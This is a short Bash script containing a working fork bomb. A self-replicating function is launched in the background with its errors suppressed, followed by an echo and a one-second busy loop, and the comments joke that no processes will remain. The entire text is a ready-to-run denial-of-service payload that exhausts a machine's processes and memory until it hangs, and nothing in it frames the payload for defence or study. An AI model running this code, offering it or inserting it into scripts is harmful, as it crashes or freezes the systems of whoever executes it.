# The classic one: every process makes two, and none waits for any.
bomb() { bomb | bomb & }
(bomb) 2>/dev/null & # this shell needs no process after it: there may be none left for it
echo "lit	done"
while ((SECONDS < 1)); do :; done
